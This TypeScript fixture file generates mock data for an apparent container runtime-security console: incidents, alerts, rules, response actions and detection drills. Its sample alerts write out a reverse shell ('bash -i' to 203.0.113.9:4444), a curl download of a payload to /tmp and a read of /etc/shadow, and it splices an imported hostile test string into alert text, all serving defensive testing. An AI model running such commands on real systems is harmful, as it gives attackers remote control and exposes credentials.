import type { Action } from '../../server/schemas/actions.ts'
import type { Drill, Scenario } from '../../server/schemas/drills.ts'
import type { AlertRow, Incident, IncidentDetail } from '../../server/schemas/incidents.ts'
import type { Rule } from '../../server/schemas/rules.ts'
import { ago, apps, digest, hostile, hosts } from './made.ts'

const korean: Record<string, string> = {
  'Reverse shell from a container': '컨테이너에서 리버스 셸 실행',
  'Sensitive file read by an unusual process': '평소와 다른 프로세스가 민감한 파일을 읽음',
  'Program that is not in the image was run': '이미지에 없는 프로그램 실행',
  'Miner connects to a pool': '채굴 풀 접속',
  'Package manager run in a container': '컨테이너에서 패키지 관리자 실행',
  'Metadata service of the cloud is asked': '클라우드 메타데이터 서비스 조회',
}

/** As the server tells a rule's name. */
export function titleOf(rule: string): { en: string; ko: string } {
  return { en: rule, ko: korean[rule] ?? rule }
}

const stories = [
  { rule: 'Reverse shell from a container', priority: 'Critical', techniques: ['T1059.004'], area: 'shell' },
  {
    rule: 'Sensitive file read by an unusual process',
    priority: 'Warning',
    techniques: ['T1552.001'],
    area: 'credentials',
  },
  {
    rule: 'Program that is not in the image was run',
    priority: 'Critical',
    techniques: ['T1105', 'T1036'],
    area: 'drift',
  },
  { rule: 'Miner connects to a pool', priority: 'Error', techniques: ['T1496'], area: 'mining' },
  { rule: 'Package manager run in a container', priority: 'Notice', techniques: ['T1072'], area: 'drift' },
  { rule: 'Metadata service of the cloud is asked', priority: 'Warning', techniques: ['T1552.005'], area: 'recon' },
] as const

export function makeIncidents(base: number, count = 48): Incident[] {
  return Array.from({ length: count }, (_, index): Incident => {
    const story = stories[index % stories.length]!
    const app = apps[(index + 1) % apps.length]!
    return {
      id: `i${index + 1}`,
      rule: story.rule,
      title: titleOf(story.rule),
      priority: story.priority,
      techniques: [...story.techniques],
      tags: ['container', 'process', story.area],
      workload: `${app.owner}/${app.name}`,
      hostId: 'h1',
      host: hosts[0],
      containerId: `c${((index + 1) % 8).toString(16).padStart(11, '0')}`,
      container: app.name,
      image: app.image,
      imageId: digest(((index + 1) % apps.length) + 1),
      first: ago(base, 35 + index * 61),
      last: ago(base, 4 + index * 53),
      count: 1 + ((index * 37) % 400),
      state: index < 5 ? 'open' : index < 9 ? 'acknowledged' : 'closed',
      ...(index % 3 === 1 ? { assignee: 'kim' } : {}),
      actions: index === 2 ? ['isolate'] : [],
    }
  })
}

export function makeAlert(base: number, incident: Incident, index: number): AlertRow {
  const net = index % 2 === 0
  return {
    id: `${incident.id}-a${index}`,
    time: ago(base, 34 - index * 3),
    rule: incident.rule,
    priority: incident.priority,
    source: 'syscall',
    output: `Shell with its input and output on a connection (command=bash -i peer=203.0.113.9:4444 container=${incident.container} ${index === 2 ? hostile : ''})`,
    output_fields: {
      'proc.pid': 4127 + Math.floor(index / 2),
      'proc.ppid': 4101,
      'proc.name': index < 2 ? 'bash' : 'curl',
      'proc.pname': 'node',
      'proc.cmdline': index < 2 ? 'bash -i' : 'curl -s http://203.0.113.9/x -o /tmp/.x',
      'proc.pcmdline': 'node server.js',
      'fd.name': net ? '172.18.0.4:52114->203.0.113.9:4444' : '/etc/shadow',
      'user.name': 'root',
      'container.name': incident.container,
      'evt.type': net ? 'connect' : 'openat',
    },
    hostname: incident.host,
    tags: incident.tags,
    hostId: incident.hostId,
    containerId: incident.containerId,
    container: incident.container,
    image: incident.image,
    incidentId: incident.id,
  }
}

export function makeIncidentDetail(base: number, incident: Incident): IncidentDetail {
  const samples = Array.from({ length: 6 }, (_, index) => makeAlert(base, incident, index))
  return {
    ...incident,
    description: {
      en: 'A shell whose standard input and output are a network connection: somebody outside types into this container.',
      ko: '셸의 표준 입출력이 네트워크 연결입니다. 외부에서 누군가 이 컨테이너에 명령을 입력하고 있습니다.',
    },
    lineage: [
      { pid: 3977, comm: 'containerd-shim', cmdline: 'containerd-shim-runc-v2 -namespace moby' },
      { pid: 4101, comm: 'node', cmdline: 'node server.js' },
      { pid: 4127, comm: 'bash', cmdline: 'bash -i' },
    ],
    samples,
    timeline: [
      { time: ago(base, 60 * 5), kind: 'container', title: 'Container started', detail: incident.image },
      ...samples.map(sample => ({
        time: sample.time,
        kind: 'alert' as const,
        title: sample.rule,
        detail: sample.output,
        ref: sample.id,
      })),
      {
        time: ago(base, 12),
        kind: 'action',
        title: 'Isolated',
        detail: 'all connections cut in 38 ms',
        actor: 'playbook:reverse-shell',
      },
      { time: ago(base, 9), kind: 'state', title: 'Acknowledged', actor: 'kim' },
      {
        time: ago(base, 7),
        kind: 'comment',
        title: `Deployment of last night had a debug route.\nRolling back. ${hostile}`,
        actor: 'kim',
      },
    ],
    evidence: [
      {
        id: 'e1',
        incidentId: incident.id,
        hostId: incident.hostId,
        host: incident.host,
        containerId: incident.containerId,
        container: incident.container,
        name: '20260301T101500-000Z-0123456789ab.tar',
        size: 4_824_064,
        received: 4_824_064,
        sha256: 'a'.repeat(64),
        createdAt: ago(base, 11),
        madeBy: 'playbook:reverse-shell',
        state: 'whole',
      },
    ],
    related: [
      {
        id: 'i2',
        rule: 'Sensitive file read by an unusual process',
        title: titleOf('Sensitive file read by an unusual process'),
        priority: 'Warning',
      },
    ],
  }
}

export function makeRules(base: number, count = 110): Rule[] {
  return Array.from({ length: count }, (_, index): Rule => {
    const story = stories[index % stories.length]!
    return {
      name: index < stories.length ? story.rule : `${story.rule} (${Math.floor(index / stories.length)})`,
      source: 'syscall',
      origin: index % 12 === 11 ? 'custom' : 'library',
      area: story.area,
      priority: story.priority,
      enabled: index % 14 !== 13,
      title: titleOf(story.rule),
      description: {
        en: 'What a container of this kind does not do in normal work.',
        ko: '일반적인 컨테이너 운영에서는 나타나지 않는 동작입니다.',
      },
      tags: ['container', story.area],
      techniques: [...story.techniques],
      condition: 'spawned_process and container and proc.name in (shell_binaries)\nand fd.type in (ipv4, ipv6)',
      output: 'Shell on a connection (command=%proc.cmdline peer=%fd.name container=%container.name)',
      hitsDay: (index * 7) % 40,
      hitsWeek: (index * 31) % 300,
      exceptions:
        index === 0
          ? [
              {
                id: 'x1',
                rule: story.rule,
                name: 'debug console',
                fields: [{ field: 'container.name', operator: '=', value: ['ci-runner'] }],
                comment: 'Build agents open shells.',
                createdBy: 'kim',
                createdAt: ago(base, 4000),
              },
            ]
          : [],
    }
  })
}

export function makeActions(base: number): Action[] {
  const row = (id: string, step: Action['step'], state: Action['state'], minutes: number): Action => ({
    id,
    step,
    containerId: 'c00000000001',
    container: 'shop-api',
    hostId: 'h1',
    incidentId: 'i1',
    dryRun: false,
    state,
    undoable: step === 'isolate' || step === 'pause',
    reason: 'reverse shell',
    requestedBy: id === 'a1' ? 'playbook:reverse-shell' : 'kim',
    createdAt: ago(base, minutes),
    doneAt: ago(base, minutes),
    ...(state === 'active' ? { until: ago(base, minutes - 60) } : {}),
    detail:
      step === 'isolate'
        ? 'All connections of shop-api are cut; 3 were open.'
        : 'Processes, open files and connections kept as evidence.',
    milliseconds: 38,
  })
  return [
    row('a1', 'isolate', 'active', 12),
    row('a2', 'evidence', 'done', 11),
    row('a3', 'pause', 'undone', 4000),
    row('a4', 'stop', 'refused', 5000),
  ]
}

export function makeScenarios(): Scenario[] {
  return stories.map((story, index) => ({
    id: `s${index + 1}`,
    title: {
      en: `Drill: ${story.rule.toLowerCase()}`,
      ko: [
        '리버스 셸 실행',
        '민감 파일 열람',
        '이미지에 없던 프로그램 실행',
        '채굴 풀 접속',
        '패키지 관리자 실행',
        '클라우드 메타데이터 조회',
      ][index]!,
    },
    area: story.area,
    technique: story.techniques[0],
    rule: story.rule,
    blocks: index === 2,
  }))
}

export function makeDrills(base: number): Drill[] {
  const results = makeScenarios().map(({ id, technique, rule, blocks }, index) => ({
    id,
    technique,
    rule,
    detected: index !== 5,
    ...(index === 5 ? {} : { milliseconds: 6 + index * 13 }),
    ...(blocks ? { blocked: true } : {}),
    cleanedUp: true,
    ...(index === 4 ? { detected: false, problem: 'the image has no package manager' } : {}),
  }))
  const drill = {
    hostId: 'h1',
    state: 'done' as const,
    origin: 'console' as const,
    requestedBy: 'kim',
    total: 6,
    results,
  }
  return [
    { ...drill, id: 'drill2', createdAt: ago(base, 90), finishedAt: ago(base, 89), detected: 4 },
    { ...drill, id: 'drill1', createdAt: ago(base, 60 * 24 * 7), finishedAt: ago(base, 60 * 24 * 7), detected: 3 },
  ]
}
